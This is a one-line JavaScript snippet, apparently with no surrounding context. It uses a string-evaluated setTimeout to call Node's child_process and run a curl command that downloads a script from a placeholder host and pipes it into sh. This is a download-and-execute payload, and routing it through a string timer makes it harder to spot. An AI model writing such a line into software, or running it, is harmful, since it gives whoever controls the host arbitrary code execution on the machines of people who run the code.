setTimeout("require('child_process').exec('curl http://dl.example.invalid/a | sh')", 1000);
